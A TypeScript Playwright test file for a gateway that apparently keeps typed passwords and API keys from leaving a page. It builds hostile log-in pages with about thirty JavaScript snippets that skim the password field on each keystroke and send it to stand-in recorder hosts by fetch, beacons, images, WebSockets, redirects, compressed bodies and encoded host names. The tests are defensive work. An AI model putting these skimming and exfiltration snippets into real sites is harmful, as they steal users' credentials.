import { randomBytes } from 'node:crypto';
import { createSocket } from 'node:dgram';
import { get } from 'node:http';
import type { AddressInfo } from 'node:net';
import { brotliCompressSync, deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
import type { Browser } from '@playwright/test';
import { Gateway } from '../../../src/keypage/gateway/gateway.js';
import { unpacked } from '../../../src/keypage/gateway/packed.js';
import { Secrets } from '../../../src/keypage/gateway/secrets.js';
import { limitsOf } from '../../../src/keypage/input.js';
import { startBrowser } from '../../../src/keypage/window/browser.js';
import { keyPage, loginForm, startHostilePage } from '../support/hostile-page.js';
import { judgeAt, logsIn, password } from '../support/key-page.js';
import { startOddPage } from '../support/odd-page.js';
import { type Recorders, startRecorders } from '../support/recorder.js';
import { expect, inCi, inFull, rowsInCi, rowsOfTable, test } from '../support/test.js';

/**
 * What a page can do with what is typed into it, without going elsewhere. In each, `secret` is it.
 */
const channels = ({ foreign, plain }: Recorders): Record<string, string> => {
  const at = (channel: string, origin = foreign): string => `'${origin}/?c=${channel}'`;
  const inUrl = (channel: string, origin = foreign): string =>
    `'${origin}/?c=${channel}&s=' + encodeURIComponent(secret)`;
  const post = (channel: string, body: string, origin = foreign): string =>
    `fetch(${at(channel, origin)}, { method: 'POST', mode: 'no-cors', body: ${body} })`;
  const base64 = 'btoa(unescape(encodeURIComponent(secret)))';
  return {
    fetch: post('fetch', 'secret'),
    'keep-alive': `fetch(${at('keep-alive')}, { method: 'POST', mode: 'no-cors', keepalive: true, body: secret })`,
    json: post('json', 'JSON.stringify({ secret })'),
    base64: post('base64', base64),
    'base64-twice': post('base64-twice', `btoa('user:' + ${base64})`),
    hex: post(
      'hex',
      `[...new TextEncoder().encode(secret)].map((byte) => byte.toString(16).padStart(2, '0')).join('')`,
    ),
    reversed: post('reversed', `[...secret].reverse().join('')`),
    grouped: post('grouped', `[...secret].join('-')`),
    'utf-16': post('utf-16', 'Uint16Array.from(secret, (letter) => letter.charCodeAt(0))'),
    'utf-16-be': post('utf-16-be', `Uint8Array.from([...secret].flatMap((letter) => [0, letter.charCodeAt(0)]))`),
    'utf-32': post('utf-32', 'Uint32Array.from(secret, (letter) => letter.charCodeAt(0))'),
    css: post(
      'css',
      `[...secret].map((letter) => '\\\\' + letter.charCodeAt(0).toString(16).padStart(6, '0')).join('')`,
    ),
    'form-data': `{ const data = new FormData(); data.set('s', secret); ${post('form-data', 'data')} }`,
    beacon: `navigator.sendBeacon(${at('beacon')}, secret)`,
    image: `new Image().src = ${inUrl('image')}`,
    stylesheet: `document.body.style.backgroundImage = 'url(' + JSON.stringify(${inUrl('stylesheet')}) + ')'`,
    frame: `{ const frame = document.createElement('iframe'); frame.src = ${inUrl('frame')}; document.body.append(frame); }`,
    'post-message': `{ const frame = document.createElement('iframe'); frame.src = '${foreign}/accomplice'; frame.onload = () => frame.contentWindow.postMessage(secret, '*'); document.body.append(frame); }`,
    basic: `fetch(${at('basic')}, { headers: { authorization: 'Basic ' + btoa(unescape(encodeURIComponent('bo:' + secret))) } })`,
    header: `fetch(${at('header')}, { headers: { 'x-secret': encodeURIComponent(secret) } })`,
    'event-source': `new EventSource(${inUrl('event-source')})`,
    worker: `new Worker(URL.createObjectURL(new Blob(['onmessage = ({ data }) => fetch("${foreign}/?c=worker", { method: "POST", mode: "no-cors", body: data })']))).postMessage(secret)`,
    'web-socket': `{ const socket = new WebSocket(${at('web-socket').replace('https', 'wss')}); socket.onopen = () => socket.send(secret); }`,
    'web-socket-letters': `{ const socket = new WebSocket(${at('web-socket-letters').replace('https', 'wss')}); socket.onopen = () => { for (const letter of secret) socket.send(letter); }; }`,
    ping: `{ const link = document.createElement('a'); link.href = '#'; link.ping = ${inUrl('ping')}; link.click(); }`,
    prefetch: `{ const link = document.createElement('link'); link.rel = 'prefetch'; link.href = ${inUrl('prefetch')}; document.head.append(link); }`,
    'redirected-post': `fetch('/away', { method: 'POST', mode: 'no-cors', body: secret })`,
    'plain-image': `new Image().src = ${inUrl('plain-image', plain)}`,
    'plain-redirect': `fetch('/plain', { method: 'POST', mode: 'no-cors', body: secret })`,
    popup: `window.open(${inUrl('popup')})`,
  };
};

const stealing = (recorders: Recorders): string =>
  `${loginForm()}<script>const field = document.querySelector('[type=password]');
   field.addEventListener('input', () => { const secret = field.value; if (secret === '') return;
   ${Object.values(channels(recorders))
     .map((script) => `try { ${script} } catch {}`)
     .join('\n')} });</script>`;

/** Channels that compress what they send, as programs that record sessions do. */
const packing = ({ foreign }: Recorders): string =>
  `${loginForm()}<script>const field = document.querySelector('[type=password]');
   const packed = (format) => new Response(new Blob(['{"said":', JSON.stringify(field.value), '}']).stream().pipeThrough(new CompressionStream(format))).arrayBuffer();
   const send = (name, body) => fetch('${foreign}/?c=' + name, { method: 'POST', mode: 'no-cors', keepalive: true, body });
   field.addEventListener('input', () => {
     if (field.value === '') return;
     for (const format of ['gzip', 'deflate', 'deflate-raw']) packed(format).then((body) => send(format, body));
     const socket = new WebSocket('${foreign.replace('https', 'wss')}/?c=socket');
     socket.onopen = async () => socket.send(await packed('gzip'));
   });</script>`;

test('a password leaves compressed neither', inCi, async ({ chromium }) => {
  const recorders = await startRecorders();
  const page = await startHostilePage({ login: packing(recorders) });
  try {
    const judged = await judgeAt(page, chromium, logsIn);
    expect(recorders.channelsOf(password)).toEqual([]);
    expect(judged.outcomes['says-when-there-is-none'], judged.everything).toBe('passed');
    expect(judged.everything).toContain('in the body of a request; the suite stopped it.');
  } finally {
    await Promise.all([page.close(), recorders.close()]);
  }
});

test('what is compressed is searched as far as can be', () => {
  const secret = 'the password';
  const form = (packed: Buffer): Buffer =>
    Buffer.concat([Buffer.from('--x\r\n\r\n'), packed, Buffer.from('\r\n--x--')]);
  const header = Buffer.from('\x1f\x8b\x08\x1e\0\0\0\0\0\0\x02\0abname\0note\0cr', 'latin1');
  const bodies: Record<string, Buffer> = {
    gzip: gzipSync(secret),
    'gzip with names in its header': form(Buffer.concat([header, deflateRawSync(secret)])),
    zlib: deflateSync(secret),
    'zlib in a form': form(deflateSync(secret)),
    'raw deflate': deflateRawSync(secret),
    brotli: brotliCompressSync(secret),
    'the second of two': Buffer.concat([gzipSync('other'), gzipSync(secret)]),
    'a gzip that was cut': gzipSync(`${secret}${randomBytes(9_000).toString('hex')}`).subarray(0, 2_000),
  };
  for (const [name, body] of Object.entries(bodies))
    expect(Buffer.concat(unpacked(body) ?? []).toString(), name).toContain(secret);
  expect(unpacked(Buffer.from(`{"x": "${secret}"}`))).toEqual([]);
  expect(unpacked(gzipSync(Buffer.alloc(10_000_000)))).toBeUndefined();
  expect(unpacked(Buffer.alloc(100_000, Buffer.from([0x78, 0x9c, 0xff])))).toBeUndefined();
});

/** A page that tries all of them, with a server that helps. */
const start = (recorders: Recorders) =>
  startHostilePage({
    login: stealing(recorders),
    handle: (request, response) => {
      const to = { '/away': recorders.foreign, '/plain': recorders.plain }[request.url ?? ''];
      if (to === undefined) return false;
      const name = request.url === '/away' ? 'redirected-post' : 'plain-redirect';
      response.writeHead(307, { location: `${to}/?c=${name}` }).end();
      return true;
    },
  });

test('the channels of these tests lead out of a browser that is left to itself', inCi, async ({ chromium }) => {
  const recorders = await startRecorders();
  const page = await start(recorders);
  const context = await chromium.newContext({ ignoreHTTPSErrors: true });
  try {
    const window = await context.newPage();
    await window.goto(page.url);
    await window.fill('[type=password]', password);
    const all = Object.keys(channels(recorders)).sort();
    await expect.poll(() => recorders.channelsOf(password), { timeout: 60_000 }).toEqual(all);
  } finally {
    await context.close();
    await Promise.all([page.close(), recorders.close()]);
  }
});

const walk = async (chromium: Browser) => {
  const recorders = await startRecorders();
  const page = await start(recorders);
  try {
    const judged = await judgeAt(page, chromium);
    return { judged, recorders };
  } finally {
    await Promise.all([page.close(), recorders.close()]);
  }
};

test('a password that was typed leaves by none of them, and the walk goes on', inCi, async ({ chromium }) => {
  const { judged, recorders } = await walk(chromium);
  expect(recorders.channelsOf(password)).toEqual([]);
  expect(judged.outcomes['makes-a-key'], judged.everything).toBe('passed');
  const told = judged.observations.map(({ fact }) => fact).join('\n');
  for (const place of ['in the URL', 'in the body of a request']) expect(told).toContain(place);
  for (const secret of judged.secrets) expect(judged.everything).not.toContain(secret);
});

for (const channel of ['header', 'base64', 'web-socket'] as const)
  test(`a new key that the page sends at once is told: ${channel}`, inFull, async ({ chromium }) => {
    const recorders = await startRecorders();
    const page = await startOddPage({
      page: (state) =>
        `${keyPage(state)}<script>const secret = '${state.keys.at(-1) ?? ''}'; if (secret) ${channels(recorders)[channel]}</script>`,
    });
    try {
      const judged = await judgeAt(page, chromium);
      expect(judged.outcomes['makes-a-key'], judged.everything).toBe('passed');
      // The key may be known by the time that it is sent, and the request is stopped.
      const told = judged.observations.map(({ fact }) => fact).join('\n');
      const { origin } = new URL(recorders.foreign);
      const sent = `The page sent a key to ${origin} before the suite could know it for a key.`;
      expect(told.includes(sent) || told.includes(`a password or a key to ${origin}`), told).toBe(true);
      for (const secret of judged.secrets) expect(judged.everything).not.toContain(secret);
    } finally {
      await Promise.all([page.close(), recorders.close()]);
    }
  });

/** A log-in form that a script of the page has its own way with. */
const scripted = (script: string, attributes?: string, button?: string): string =>
  `${loginForm(attributes, button)}<script>const form = document.forms[0]; const field = form.password; ${script}</script>`;

/** Ways of a log-in that lead the password elsewhere. */
const ways = ({ foreign, plain }: Recorders): Record<string, Parameters<typeof startHostilePage>[0]> => ({
  'a form to another origin': { login: loginForm(`method="post" action="${foreign}/"`) },
  'a form to plain HTTP': { login: loginForm(`method="post" action="${plain}/"`) },
  'a button to another origin': { login: loginForm(undefined, `<button formaction="${foreign}/">Log in</button>`) },
  'an action that changes at the first letter': {
    login: scripted(`field.oninput = () => { if (field.value) form.action = '${foreign}/'; };`),
  },
  'an action that changes when it is sent': {
    login: scripted(`form.onsubmit = () => { form.action = '${foreign}/'; };`),
  },
  'an action that changes to plain HTTP when it is pressed': {
    login: scripted(`form.querySelector('button').onclick = () => { form.action = '${plain}/'; };`),
  },
  'another form that is sent instead': {
    login: scripted(
      `form.onsubmit = (event) => { event.preventDefault(); const other = document.createElement('form'); other.method = 'post'; other.action = '${foreign}/'; other.append(field); document.body.append(other); other.submit(); };`,
    ),
  },
  'an address with the password in it': {
    login: scripted(
      `form.onsubmit = (event) => { event.preventDefault(); location.href = '${foreign}/?s=' + encodeURIComponent(field.value); };`,
    ),
  },
  'an answer 307 to another origin': {
    login: loginForm(),
    answer: (response) => response.writeHead(307, { location: `${foreign}/` }).end(),
  },
  'an answer 308 to plain HTTP': {
    login: loginForm(),
    answer: (response) => response.writeHead(308, { location: `${plain}/` }).end(),
  },
  'two answers, 307 here and 308 to plain HTTP': {
    login: loginForm(),
    answer: (response) => response.writeHead(307, { location: '/second' }).end(),
    handle: (request, response) => {
      if (request.url !== '/second') return false;
      response.writeHead(308, { location: `${plain}/` }).end();
      return true;
    },
  },
  'fields that GET puts into the own URL': { login: loginForm('method="get" action="/log-in"') },
  'fields that go by GET since no method is named': { login: loginForm('action="/log-in"') },
  'a button that sends by GET': { login: loginForm(undefined, '<button formmethod="get">Log in</button>') },
});

const row = rowsOfTable();
for (const name of Object.keys(ways({ foreign: '', plain: '' } as Recorders)))
  test(`a log-in keeps the password, and tells: ${name}`, row(), async ({ chromium }) => {
    const recorders = await startRecorders();
    const hostile = ways(recorders)[name];
    if (!hostile) throw new Error(name);
    const page = await startHostilePage(hostile);
    try {
      const judged = await judgeAt(page, chromium);
      expect(recorders.channelsOf(password)).toEqual([]);
      const urls = page.state.requests.map(({ url }) => url).join('\n');
      for (const spelling of [password, encodeURIComponent(password), new URLSearchParams({ password }).toString()])
        expect(urls).not.toContain(spelling);
      expect(judged.outcomes['makes-a-key'], judged.everything).toBe('inconclusive');
      expect(`${judged.findings[0]?.reason} ${judged.findings[0]?.note}`).toMatch(
        /the password was not typed|the suite stopped it/,
      );
      if (name.includes('go by GET')) expect(judged.findings[0]?.reason).toContain('in the body of a POST');
      for (const secret of judged.secrets) expect(judged.everything).not.toContain(secret);
    } finally {
      await Promise.all([page.close(), recorders.close()]);
    }
  });

/** What the action leads to: a page that wants to see the password again. */
const confirmations = ({ foreign, plain }: Recorders): Record<string, string> => ({
  'at another origin': `<a href="${foreign}/confirm">Generate API key</a>`,
  'over plain HTTP': `<a href="${plain}/confirm">Generate API key</a>`,
  'that answers the press and sends it to another origin': `<form method="post" action="/confirm?to=${encodeURIComponent(foreign)}"><button>Generate API key</button></form>`,
  'that sends it to another origin': `<a href="/confirm?to=${encodeURIComponent(foreign)}">Generate API key</a>`,
});

const confirmedRow = rowsInCi();
for (const name of Object.keys(confirmations({ foreign: '', plain: '' } as Recorders)))
  test(`a password is not confirmed on a page ${name}`, confirmedRow(), async ({ chromium }) => {
    const ask = (action: string): string =>
      `<!doctype html><h1>Confirm</h1><form method="post" action="${action}"><label>Password <input type="password" name="p"></label><button>Generate API key</button></form>`;
    const recorders = await startRecorders(ask('/'));
    const page = await startHostilePage({
      login: loginForm(),
      page: () => `<h1>API key</h1><p>You have no key yet.</p>${confirmations(recorders)[name]}`,
      handle: (request, response) => {
        const { pathname, searchParams } = new URL(request.url ?? '', 'https://page.test');
        if (pathname !== '/confirm') return false;
        response.writeHead(200, { 'content-type': 'text/html' }).end(ask(`${searchParams.get('to')}/`));
        return true;
      },
    });
    try {
      // Nothing is made, however long one waits for it.
      const judged = await judgeAt(page, chromium, {}, { lateMs: 0 });
      expect(recorders.channelsOf(password)).toEqual([]);
      expect(judged.outcomes['makes-a-key'], judged.everything).toBe('inconclusive');
      expect(judged.findings[0]?.reason).toContain('the password was not typed');
    } finally {
      await Promise.all([page.close(), recorders.close()]);
    }
  });

test('nothing leaves past the gateway: WebRTC finds no server', inCi, async () => {
  const turn = createSocket('udp4');
  let datagrams = 0;
  turn.on('message', () => {
    datagrams += 1;
  });
  await new Promise<void>((resolve) => turn.bind(0, '127.0.0.1', resolve));
  const { port } = turn.address() as AddressInfo;
  const page = await startHostilePage({
    login: `${loginForm()}<script>const peer = new RTCPeerConnection({ iceServers: [{ urls: ['stun:127.0.0.1:${port}', 'turn:127.0.0.1:${port}'], username: 'bo', credential: 'x' }] });
      peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer));</script>`,
  });
  const own = await startBrowser({ url: page.url, generate: true, insecureTls: false }, String);
  const { browser } = own;
  try {
    const judged = await judgeAt(page, browser, logsIn);
    expect(judged.outcomes['says-when-there-is-none'], judged.everything).toBe('passed');
    expect(datagrams).toBe(0);
  } finally {
    await own.close();
    turn.close();
    await page.close();
  }
});

test('once the password is typed, only hosts that a server has named are asked', inCi, async ({ chromium }) => {
  const recorders = await startRecorders();
  const spelt = `[...new TextEncoder().encode(field.value)].map((byte) => String.fromCharCode(97 + (byte >> 4), 97 + (byte & 15))).join('').slice(0, 60)`;
  const page = await startHostilePage({
    login: `${loginForm()}<script>const field = document.querySelector('[type=password]');
      field.onchange = () => { new Image().src = 'https://' + ${spelt} + '.elsewhere.test/'; };</script>`,
    page: (state) => `${keyPage(state)}<img alt="" src="${recorders.foreign}/?c=named">`,
  });
  try {
    const judged = await judgeAt(page, chromium, logsIn);
    expect(judged.outcomes['says-when-there-is-none'], judged.everything).toBe('passed');
    expect(judged.everything).toContain('The page made up the name of a host');
    expect(judged.everything).not.toContain('elsewhere.test');
    expect(recorders.received.join('\n')).toContain('c=named');
  } finally {
    await Promise.all([page.close(), recorders.close()]);
  }
});

test('a password that is also the name of a folder of the site keeps nobody out', inFull, async ({ chromium }) => {
  const page = await startHostilePage({
    login: `<link rel="stylesheet" href="/account/style.css">${loginForm()}`,
    page: (state) => `<script src="/account/code.js"></script>${keyPage(state)}`,
  });
  try {
    const judged = await judgeAt(page, chromium, { password: 'account' });
    expect(judged.outcomes['makes-a-key'], judged.everything).toBe('passed');
    expect(page.state.requests.map(({ path }) => path)).toContain('/account/code.js');
  } finally {
    await page.close();
  }
});

test('a page may talk to others by WebSocket of other things', inFull, async ({ chromium }) => {
  const recorders = await startRecorders();
  const page = await startHostilePage({
    login: loginForm(),
    page: (state) =>
      `${keyPage(state)}<script>const socket = new WebSocket('${recorders.foreign.replace('https', 'wss')}/?c=chat'); socket.onopen = () => { socket.send('Good morning'); socket.send('x'.repeat(300)); };</script>`,
  });
  try {
    const judged = await judgeAt(page, chromium);
    expect(judged.outcomes['makes-a-key'], judged.everything).toBe('passed');
    expect(judged.everything).not.toContain('the suite stopped it');
    expect(recorders.received.join('\n')).toContain('Good morning');
  } finally {
    await Promise.all([page.close(), recorders.close()]);
  }
});

test('HTTP Basic opens the page and tells nobody else', inCi, async ({ chromium }) => {
  const recorders = await startRecorders();
  const asks = { 'www-authenticate': 'Basic realm="somewhere"' };
  const basic = `Basic ${Buffer.from(`bo:${password}`).toString('base64')}`;
  const stranger = await startOddPage({
    page: () => '',
    handle: (request, response) => {
      recorders.received.push(request.rawHeaders.join('\n'));
      response.writeHead(401, asks).end();
      return true;
    },
  });
  const page = await startOddPage({
    page: (state) => `${keyPage(state)}<img alt="" src="${stranger.baseUrl}/"><img alt="" src="/away">`,
    handle: (request, response) => {
      if (request.url === '/away') response.writeHead(307, { location: `${stranger.baseUrl}/` }).end();
      else if (request.url === '/key' && request.headers.authorization !== basic) response.writeHead(401, asks).end();
      else return false;
      return true;
    },
  });
  try {
    const judged = await judgeAt(page, chromium, logsIn);
    expect(judged.outcomes['says-when-there-is-none'], judged.everything).toBe('passed');
    expect(recorders.received.length).toBeGreaterThan(0);
    expect(recorders.channelsOf(password)).toEqual([]);
  } finally {
    await Promise.all([page.close(), stranger.close(), recorders.close()]);
  }
});

test('once the password is typed, other customers of the same suffix are not asked', async () => {
  const settings = {
    url: 'https://mara.pages.test/key',
    username: 'bo',
    password,
    generate: false,
    insecureTls: false,
  };
  const secrets = new Secrets({ settings, opens: async () => 'unknown', learn: () => {}, redact: (text) => text });
  const gateway = await Gateway.open(settings, secrets, limitsOf(1_000));
  try {
    const { server } = await gateway.openDoor();
    secrets.markTyped([password]);
    for (const path of ['x577137.pages.test:443', 'pages.test:443'])
      await expect(
        new Promise((resolve, reject) => {
          get(server, { method: 'CONNECT', path }).once('connect', resolve).once('error', reject);
        }),
      ).rejects.toThrow();
    expect(gateway.guard.stopped.map(({ where }) => where)).toEqual(['name', 'name']);
  } finally {
    gateway.close();
  }
});
